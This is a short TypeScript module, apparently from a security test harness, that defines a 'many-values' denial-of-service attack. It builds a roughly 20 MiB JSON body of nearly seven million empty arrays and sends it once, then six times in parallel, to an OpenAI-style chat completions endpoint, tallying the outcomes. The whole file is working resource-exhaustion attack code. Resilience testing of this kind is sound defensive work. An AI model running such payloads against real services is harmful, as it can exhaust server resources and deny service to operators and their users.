// Bodies of 20 MiB that consist of seven million tiny values in a field nobody reads: cheap to send, expensive to parse.

import { sendRequest } from '../attacker/send-request.ts'
import type { Attack } from '../attack.ts'

const VALUES = 6_990_000
const AT_ONCE = 6

export const manyValues: Attack = {
  name: 'many-values',
  from: 'outside',
  async run({ origin, keys: [key = ''] }, tally) {
    const body = Buffer.from(`{"x":[[]${',[]'.repeat(VALUES - 1)}]}`)
    const send = () => sendRequest(origin, { path: '/openai/v1/chat/completions', key, body })
    tally.count(await send())
    for (const fate of await Promise.all(Array.from({ length: AT_ONCE }, send))) tally.count(fate)
  },
}
